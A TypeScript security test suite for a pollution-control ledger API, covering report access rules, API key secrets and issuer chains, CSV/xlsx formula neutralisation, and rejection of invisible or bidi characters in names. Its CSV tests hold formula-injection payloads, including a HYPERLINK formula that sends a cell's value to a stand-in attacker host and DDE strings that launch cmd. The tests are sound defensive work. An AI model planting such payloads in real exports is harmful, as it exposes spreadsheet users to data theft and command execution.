/**
 * Confidentiality against hostile clients: reports answer only who may read the lists they
 * aggregate; API key secrets are never stored with idempotency records, which expire; a key never
 * outlives or outranks the key that issued it; CSV exports neutralise formulas; names are text a
 * person can read.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { buildAccessFixture, CAMPAIGN, createEnterprise, MUTATIONS, type AccessFixture } from '../helpers/access-fixture.js';
import { IDEMPOTENCY_PURGE_BATCH, IDEMPOTENCY_RETENTION_HOURS } from '../../packages/api/src/common/mutation.js';
import { SUBJECTS } from '../../packages/api/src/modules/report/report.registry.js';
import { parseCsv } from '../helpers/csv.js';

let app: TestApp;
let fx: AccessFixture;
let base: string;

beforeAll(async () => {
  app = await startTestApp();
  fx = await buildAccessFixture(app);
  base = app.url.replace(/\/graphql$/, '');
});

afterAll(async () => {
  await app?.close();
});

function exportUrl(file: string, params: Record<string, unknown> = {}): string {
  const q = new URLSearchParams(Object.entries(params).map(([k, v]) => [k, JSON.stringify(v)]));
  return `${base}/exports/${file}${q.size ? `?${q}` : ''}`;
}

function get(url: string, token: string | null = app.ministryToken): Promise<Response> {
  return fetch(url, { headers: token ? { authorization: `Bearer ${token}` } : {} });
}


async function csv(file: string, params: Record<string, unknown> = {}, token: string | null = app.ministryToken) {
  const res = await get(exportUrl(file, params), token);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(new Uint8Array(await res.arrayBuffer()));
  return { res, text, rows: res.ok ? parseCsv(text.slice(1)) : [] };
}

const REPORT = `query($input: ReportInput!) { report(input: $input) { rows { kind keys { value } values } } }`;
const byCity = (subject: string) => ({ input: { subject, dimensions: ['CITY'], measures: [{ measure: 'COUNT' }] } });

/** The list query of the records each report subject aggregates. */
const LIST_OF_SUBJECT: Record<string, string> = {
  ENTERPRISES: '{ enterprises(first: 1) { totalCount } }',
  GRADE_CHANGES: '{ gradeChanges(first: 1) { totalCount } }',
  RETROFIT_PROJECTS: '{ retrofitProjects(first: 1) { totalCount } }',
  DISBURSEMENTS: '{ disbursements(first: 1) { totalCount } }',
  OBSERVATIONS: '{ airQualityObservations(first: 1) { totalCount } }',
  CLUES: '{ clues(first: 1) { totalCount } }',
  ENFORCEMENT_ACTIONS: '{ enforcementActions(first: 1) { totalCount } }',
  WARNINGS: '{ warnings(first: 1) { totalCount } }',
  MEASURE_CHECKS: '{ measureChecks(first: 1) { totalCount } }',
  HOUSEHOLD_CONVERSIONS: '{ householdConversions(first: 1) { totalCount } }',
  AGRICULTURAL_FACILITIES: '{ agriculturalCoalFacilities(first: 1) { totalCount } }',
  COMBUSTION_UNITS: '{ combustionUnits(first: 1) { totalCount } }',
};

describe('reports apply the read rule of the list they aggregate', () => {
  it('answers an anonymous report of a subject exactly when the anonymous list is answered', async () => {
    expect(Object.keys(LIST_OF_SUBJECT).sort()).toEqual(Object.keys(SUBJECTS).sort());
    for (const [subject, list] of Object.entries(LIST_OF_SUBJECT)) {
      const l = await app.anonymous.gql(list);
      const r = await app.anonymous.gql(REPORT, byCity(subject));
      const e = await get(exportUrl('report.csv', byCity(subject)), null);
      if (l.errors) {
        expect(l.errors[0].extensions?.code, subject).toBe('UNAUTHENTICATED');
        expect(r.errors?.[0].extensions?.code, `report of ${subject}`).toBe('UNAUTHENTICATED');
        expect(r.data?.report ?? null, subject).toBeNull();
        expect(e.status, `report.csv of ${subject}`).toBe(401);
        expect((await e.json()).errors[0].extensions.code).toBe('UNAUTHENTICATED');
      } else {
        expect(r.errors, subject).toBeUndefined();
        expect(e.status, `report.csv of ${subject}`).toBe(200);
        await e.arrayBuffer();
      }
      expect(Boolean(l.errors), subject).toBe(!SUBJECTS[subject as keyof typeof SUBJECTS].read.public);
    }
    // The subsidy, project, supervision, measure-check and inventory subjects are the ones that need a key.
    expect(Object.entries(SUBJECTS).filter(([, d]) => !d.read.public).map(([s]) => s).sort()).toEqual(['AGRICULTURAL_FACILITIES', 'CLUES', 'COMBUSTION_UNITS', 'DISBURSEMENTS', 'ENFORCEMENT_ACTIONS', 'HOUSEHOLD_CONVERSIONS', 'MEASURE_CHECKS', 'RETROFIT_PROJECTS']);
  });

  it('refuses an anonymous report before checking its filter (no program codes are revealed)', async () => {
    const r = await app.anonymous.gql(REPORT, {
      input: { subject: 'DISBURSEMENTS', dimensions: [], measures: [{ measure: 'AMOUNT' }], filter: { subsidyPrograms: ['no-such-program'] } },
    });
    expect(r.errors?.[0].extensions?.code).toBe('UNAUTHENTICATED');
  });

  it('gives anonymous scorecards without subsidies: the field is null with UNAUTHENTICATED, the rest is answered', async () => {
    const q = `query($c: String) { campaignScorecards(level: CITY, campaign: $c, filter: { city: "tangshan" }) { key attainment { observedDays } grades { count } subsidies { budgetAmount committedAmount } } }`;
    const anonymous = await app.anonymous.gql(q, { c: CAMPAIGN });
    expect(anonymous.data?.campaignScorecards).toEqual([expect.objectContaining({ key: 'tangshan', subsidies: null, attainment: { observedDays: 1 } })]);
    expect(anonymous.errors).toEqual([expect.objectContaining({ path: ['campaignScorecards', 0, 'subsidies'], extensions: expect.objectContaining({ code: 'UNAUTHENTICATED' }) })]);
    const keyed = await app.gql(q, { c: CAMPAIGN });
    expect(keyed.errors).toBeUndefined();
    expect(keyed.data.campaignScorecards[0].subsidies).toEqual({ budgetAmount: 100000, committedAmount: 1000 });

    // The export leaves the subsidy columns out for anonymous callers.
    const input = { input: { level: 'CITY', campaign: CAMPAIGN, filter: { city: 'tangshan' } } };
    const a = await csv('campaign-scorecards.csv', input, null);
    expect(a.res.status).toBe(200);
    expect(a.rows[0]).not.toContain('budget_amount');
    expect(a.rows[0].filter((h) => /budget|paid|disbursement|committed|payment|low_income/.test(h))).toEqual([]);
    expect(a.rows[0]).toContain('grade_c');
    const m = await csv('campaign-scorecards.csv', input);
    const header = m.rows[0];
    expect(m.rows[1][header.indexOf('budget_amount')]).toBe('100000');
  });
});

// ------------------------------------------------------------------------------------- idempotency

const CREATE_KEY = MUTATIONS.createApiKey;

describe('idempotency records never hold a secret and expire', () => {
  it('stores no secret, and a replay returns the key with secret null', async () => {
    const input = { name: 'Replayed key', role: 'CITY', city: 'tangshan' };
    const first = await app.data(CREATE_KEY, { input }, { 'idempotency-key': 'key-once' });
    const secret = first.createApiKey.secret as string;
    expect(secret).toMatch(/^airl_/);
    const stored = await app.sql<{ response: string }>(`select response::text from idempotency_key where key = 'key-once'`);
    expect(stored).toHaveLength(1);
    expect(stored[0].response).not.toContain(secret);
    expect(stored[0].response).not.toContain(secret.slice(12));

    const replay = await app.data(CREATE_KEY, { input }, { 'idempotency-key': 'key-once' });
    expect(replay.createApiKey).toEqual({ ...first.createApiKey, secret: null });
    expect(await app.sql(`select id from api_key where name = 'Replayed key'`)).toHaveLength(1);
    // The first response's secret works.
    expect((await app.as(secret).data('{ viewer { role } }')).viewer.role).toBe('CITY');
  });

  it('never stores a value shaped like an API key secret, whatever the mutation', async () => {
    const all = await app.sql<{ response: string }>(`select coalesce(response::text, '') as response from idempotency_key`);
    for (const { response } of all) expect(response).not.toMatch(/airl_[A-Za-z0-9_-]{43}/);
  });

  it(`treats a record older than ${IDEMPOTENCY_RETENTION_HOURS} hours as absent`, async () => {
    const input = { name: 'Key of an old request', role: 'READ_ONLY' };
    const first = await app.data(CREATE_KEY, { input }, { 'idempotency-key': 'old-key' });
    await app.sql(`update idempotency_key set created_at = now() - interval '${IDEMPOTENCY_RETENTION_HOURS} hours 1 minute' where key = 'old-key'`);
    const again = await app.data(CREATE_KEY, { input }, { 'idempotency-key': 'old-key' });
    expect(again.createApiKey.userErrors).toEqual([]);
    expect(again.createApiKey.apiKey.id).not.toBe(first.createApiKey.apiKey.id);
    expect(again.createApiKey.secret).toMatch(/^airl_/);
    // Other input with an expired key is a new request, not a CONFLICT.
    await app.sql(`update idempotency_key set created_at = now() - interval '${IDEMPOTENCY_RETENTION_HOURS + 1} hours' where key = 'old-key'`);
    const other = await app.data(CREATE_KEY, { input: { ...input, name: 'Another key' } }, { 'idempotency-key': 'old-key' });
    expect(other.createApiKey.userErrors).toEqual([]);
    // A fresh record still replays and still refuses other input.
    const conflict = await app.data(CREATE_KEY, { input }, { 'idempotency-key': 'old-key' });
    expect(conflict.createApiKey.userErrors).toEqual([expect.objectContaining({ field: ['idempotencyKey'], code: 'CONFLICT' })]);
  });

  it('deletes expired records, a bounded number per idempotent mutation', async () => {
    await app.sql(`insert into idempotency_key (actor_id, key, operation, request_hash, response, created_at)
      select 'key:999999', 'stale-' || n, 'createEnterprise', 'x', null, now() - interval '30 days' - n * interval '1 second' from generate_series(1, 120) n`);
    const stale = async () => (await app.sql<{ n: number }>(`select count(*)::int as n from idempotency_key where key like 'stale-%'`))[0].n;
    expect(await stale()).toBe(120);
    // A mutation without an Idempotency-Key touches no record.
    await createEnterprise(app, 'tangshan', '清理测试一厂');
    expect(await stale()).toBe(120);
    const e = await app.data(MUTATIONS.updateEnterprise, { input: { id: fx.cities.tangshan.enterpriseId, name: '唐山清理测试化工' } }, { 'idempotency-key': 'purge-1' });
    expect(e.updateEnterprise.userErrors).toEqual([]);
    expect(await stale()).toBe(120 - IDEMPOTENCY_PURGE_BATCH);
    await app.data(MUTATIONS.updateEnterprise, { input: { id: fx.cities.tangshan.enterpriseId, name: '唐山清理测试化工二' } }, { 'idempotency-key': 'purge-2' });
    await app.data(MUTATIONS.updateEnterprise, { input: { id: fx.cities.tangshan.enterpriseId, name: '唐山清理测试化工三' } }, { 'idempotency-key': 'purge-3' });
    expect(await stale()).toBe(0);
    // Fresh records are kept.
    expect(await app.sql(`select 1 from idempotency_key where key in ('purge-1', 'purge-2', 'purge-3')`)).toHaveLength(3);
  });
});

// ------------------------------------------------------------------------------------- key chains

async function issue(token: string, input: Record<string, unknown>): Promise<{ id: string; secret: string; expiresAt: string | null }> {
  const r = await app.as(token).data(`mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { apiKey { id expiresAt } secret userErrors { field code message } } }`, { input });
  expect(r.createApiKey.userErrors).toEqual([]);
  return { id: r.createApiKey.apiKey.id, secret: r.createApiKey.secret, expiresAt: r.createApiKey.apiKey.expiresAt };
}

/** HTTP status and error code of a request with `token`, through the compiled lane (a national key's list read) or the resolvers. */
async function status(token: string, query = '{ cities(first: 1) { totalCount } }'): Promise<{ status: number; code?: string; compiled: boolean }> {
  const res = await fetch(app.url, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, body: JSON.stringify({ query }) });
  const body = (await res.json()) as { errors?: { extensions?: { code?: string } }[] };
  return { status: res.status, code: body.errors?.[0]?.extensions?.code, compiled: res.headers.get('airledger-execution') === 'compiled' };
}

describe('a key never outlives or outranks its issuer', () => {
  it('caps the expiry of a key at its issuer\'s, by default, and refuses a later one', async () => {
    const expiresAt = new Date(Date.now() + 3600_000);
    const issuer = await app.createKey({ role: 'PROVINCE', province: 'hebei', expiresAt });
    const child = await issue(issuer.secret, { name: 'Child of an expiring key', role: 'CITY', city: 'tangshan' });
    expect(new Date(child.expiresAt!).getTime()).toBe(new Date(expiresAt.toISOString()).getTime());
    const later = await app.as(issuer.secret).data(MUTATIONS.createApiKey, { input: { name: 'Later', role: 'CITY', city: 'tangshan', expiresAt: new Date(Date.now() + 86400_000 * 365).toISOString() } });
    expect(later.createApiKey).toMatchObject({ apiKey: null, secret: null, userErrors: [expect.objectContaining({ field: ['input', 'expiresAt'], code: 'OUT_OF_RANGE' })] });
    // A grandchild is capped at the earliest expiry of the chain.
    const grandchild = await issue(child.secret, { name: 'Grandchild', role: 'READ_ONLY' });
    expect(new Date(grandchild.expiresAt!).getTime()).toBe(new Date(expiresAt.toISOString()).getTime());
  });

  it('refuses keys above the issuer\'s role', async () => {
    const city = await app.createKey({ role: 'CITY', city: 'tangshan' });
    for (const role of ['PROVINCE', 'MINISTRY']) {
      const r = await app.as(city.secret).gql(MUTATIONS.createApiKey, { input: { name: 'Up', role, province: role === 'PROVINCE' ? 'hebei' : null } });
      expect(r.errors?.[0].extensions?.code, role).toBe('FORBIDDEN');
    }
    const readOnly = await app.createKey({ role: 'READ_ONLY' });
    expect((await app.as(readOnly.secret).gql(MUTATIONS.createApiKey, { input: { name: 'Any', role: 'READ_ONLY' } })).errors?.[0].extensions?.code).toBe('FORBIDDEN');
  });

  it('stops every key below a revoked key, on both lanes, in the one authentication statement', async () => {
    const m1 = await issue(app.ministryToken, { name: 'Ministry office', role: 'MINISTRY' });
    const m2 = await issue(m1.secret, { name: 'Ministry analyst', role: 'MINISTRY' });
    const m3 = await issue(m2.secret, { name: 'Ministry script', role: 'READ_ONLY' });
    const p = await issue(m2.secret, { name: 'Hebei department', role: 'PROVINCE', province: 'hebei' });
    const c = await issue(p.secret, { name: 'Tangshan bureau', role: 'CITY', city: 'tangshan' });
    for (const key of [m2, m3]) expect(await status(key.secret)).toEqual({ status: 200, code: undefined, compiled: true });
    expect(await status(c.secret, '{ viewer { role } }')).toMatchObject({ status: 200 });
    // Authentication is one statement, as for a key without issuers.
    const sql = async (token: string) => (await app.as(token).gql('{ disbursements(first: 1) { totalCount } }')).extensions?.sqlStatements;
    expect(await sql(m3.secret)).toBe(await sql(app.ministryToken));

    const revoked = await app.data(MUTATIONS.revokeApiKey, { input: { id: m1.id } });
    expect(revoked.revokeApiKey.userErrors).toEqual([]);
    for (const key of [m1, m2, m3, p, c]) {
      expect(await status(key.secret), key.id).toEqual({ status: 401, code: 'UNAUTHENTICATED', compiled: false });
      expect(await status(key.secret, '{ viewer { role } }'), key.id).toMatchObject({ status: 401, code: 'UNAUTHENTICATED' });
      const exp = await get(exportUrl('cities.csv'), key.secret);
      expect(exp.status, key.id).toBe(401);
    }
    // Authentication checks the chain itself: a key below a revoked one fails even if its own row was not revoked.
    await app.sql(`update api_key set revoked_at = null, revoked_by = null where id = ?`, [Number(c.id)]);
    const orphan = await app.as(c.secret).gql('{ viewer { role } }');
    expect(orphan.errors?.[0]).toMatchObject({ extensions: { code: 'UNAUTHENTICATED' }, message: expect.stringMatching(/was revoked/) });
    await app.sql(`update api_key set revoked_at = now(), revoked_by = 'test' where id = ?`, [Number(c.id)]);
    // Their status says so.
    const list = await app.data(`{ apiKeys(first: 100, filter: { status: REVOKED }) { nodes { id } } }`);
    expect(list.apiKeys.nodes.map((n: { id: string }) => n.id)).toEqual(expect.arrayContaining([m1.id, m2.id, m3.id, p.id, c.id]));
  });

  it('stops keys below an expired key even when their own row says otherwise (keys issued before the rule)', async () => {
    const top = await issue(app.ministryToken, { name: 'Old office', role: 'MINISTRY' });
    const child = await issue(top.secret, { name: 'Old child', role: 'MINISTRY' });
    const city = await issue(top.secret, { name: 'Old city child', role: 'CITY', city: 'taiyuan' });
    expect(await status(child.secret)).toMatchObject({ status: 200, compiled: true });
    await app.sql(`update api_key set expires_at = now() - interval '1 minute' where id = ?`, [Number(top.id)]);
    await app.sql(`update api_key set expires_at = null where id in (?, ?)`, [Number(child.id), Number(city.id)]);
    for (const key of [child, city]) {
      const s = await status(key.secret, '{ viewer { role } }');
      expect(s, key.id).toMatchObject({ status: 401, code: 'UNAUTHENTICATED' });
      expect(await status(key.secret), key.id).toMatchObject({ status: 401, compiled: false });
    }
    const body = await app.as(child.secret).gql('{ viewer { role } }');
    expect(body.errors?.[0].message).toMatch(/expired at/);
  });
});

// ------------------------------------------------------------------------------------- CSV formulas

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];

describe('CSV exports neutralise formulas', () => {
  it('prefixes a single quote to text cells starting with =, +, -, @, tab or carriage return, and keeps negative numbers numeric', async () => {
    const ids: string[] = [];
    for (const name of PAYLOADS) ids.push((await createEnterprise(app, 'taiyuan', name)).id);
    // Tab and carriage return cannot reach a name through the API (names are trimmed and checked): plant them in the table.
    await app.sql(`update enterprise set name = E'\\t=1+1 tab' where id = ?`, [Number(ids[0])]);
    await app.sql(`update enterprise set name = E'\\r=1+1 cr' where id = ?`, [Number(ids[1])]);
    const planted = ['\t=1+1 tab', '\r=1+1 cr', PAYLOADS[2], PAYLOADS[3]];
    const { res, text, rows } = await csv('enterprises.csv', { filter: { city: 'taiyuan' } });
    expect(res.status).toBe(200);
    const nameAt = rows[0].indexOf('name');
    const names = rows.slice(1).map((r) => r[nameAt]);
    for (const p of planted) {
      expect(names, JSON.stringify(p)).toContain(`'${p}`);
      expect(names).not.toContain(p);
    }
    // Quoted, so that the quote and the payload stay one cell.
    expect(text).toContain(`"'${PAYLOADS[2]}"`);

    // A negative number of a number column is a number, not a formula.
    await app.sql(`insert into air_quality_observation (city_id, observed_on, pm25, origin, created_by, updated_by) values (?, '2022-11-15', 100, 'RECORDED', 'x', 'x')`, [fx.cities.tangshan.cityId]);
    const ranking = await csv('monthly-pm25-ranking.csv', { input: { month: '2023-11', filter: { city: 'tangshan' } } });
    const h = ranking.rows[0];
    expect(ranking.rows[1][h.indexOf('change')]).toBe('-59');
    expect(ranking.text).toMatch(/,-59,/);
  });

  it('writes the same payloads into xlsx as inline strings, which are never formulas', async () => {
    const res = await get(exportUrl('enterprises.xlsx', { filter: { city: 'taiyuan' } }));
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const sheet = workbook.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = header.indexOf('name') + 1;
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row, n) => n > 1 && cells.push(row.getCell(column)));
    const payloadCells = cells.filter((c) => PAYLOADS.slice(2).includes(String(c.value)));
    expect(payloadCells).toHaveLength(2);
    for (const c of cells) {
      expect(c.type, String(c.value)).toBe(ExcelJS.ValueType.String);
      expect(c.formula).toBeUndefined();
    }
  });
});

// ------------------------------------------------------------------------------------- names

const UNREADABLE = ['\u200B\u200C\u200D', '\u2066\u2069', '\u202E', '\u200E\u200F\u061C', '\uFEFF\u2060\u00AD', '\u3000\u200B'];
const BIDI = ['王\u202E明', '\u2067Acme\u2069 Ltd', 'Acme\u202D Ltd'];

describe('names are text a person can read', () => {
  it('refuses household names of invisible or bidi characters, naming the field', async () => {
    const record = (householdName: string) =>
      app.data(MUTATIONS.recordDisbursement, {
        input: { programId: fx.programId, city: 'tangshan', recipientKind: 'HOUSEHOLD', householdName, householdIdNumber: fx.cities.tangshan.householdIdNumber, lowIncome: false, amount: 1, approvedOn: '2023-11-02' },
      });
    for (const name of [...UNREADABLE, ...BIDI, '王\u0007明', '王\u2028明']) {
      const r = await record(name);
      expect(r.recordDisbursement.userErrors, JSON.stringify(name)).toEqual([expect.objectContaining({ field: ['input', 'householdName'], code: 'INVALID' })]);
      expect(r.recordDisbursement.disbursement).toBeNull();
    }
    // Names of real people pass, with their own joiners and marks.
    for (const name of ['王明', 'Анна-Мария', 'अनु\u200Dराधा', 'محمد']) {
      const r = await record(name);
      expect(r.recordDisbursement.userErrors, name).toEqual([]);
    }
  });

  it('applies the same rule to enterprise names, key names and deciders', async () => {
    for (const name of [...UNREADABLE, ...BIDI]) {
      const label = JSON.stringify(name);
      const e = await app.data(MUTATIONS.createEnterprise, { input: { city: 'tangshan', name, creditCode: '91130200MA0BBBBB2X', industry: 'CHEMICAL', size: 'SMALL' } });
      expect(e.createEnterprise.userErrors.filter((u: { field: string[] }) => u.field[1] === 'name'), label).toEqual([expect.objectContaining({ field: ['input', 'name'], code: 'INVALID' })]);
      const u = await app.data(MUTATIONS.updateEnterprise, { input: { id: fx.cities.tangshan.enterpriseId, name } });
      expect(u.updateEnterprise.userErrors, label).toEqual([expect.objectContaining({ field: ['input', 'name'], code: 'INVALID' })]);
      const k = await app.data(MUTATIONS.createApiKey, { input: { name, role: 'READ_ONLY' } });
      expect(k.createApiKey.userErrors, label).toEqual([expect.objectContaining({ field: ['input', 'name'], code: 'INVALID' })]);
      const g = await app.data(MUTATIONS.recordGradeChange, { input: { enterpriseId: fx.cities.tangshan.enterpriseId, toGrade: 'B', reason: 'ASSESSMENT', decidedBy: name } });
      expect(g.recordGradeChange.userErrors.filter((u: { field: string[] }) => u.field[1] === 'decidedBy'), label).toEqual([expect.objectContaining({ field: ['input', 'decidedBy'], code: 'INVALID' })]);
      expect(g.recordGradeChange.gradeChange, label).toBeNull();
    }
  });
});
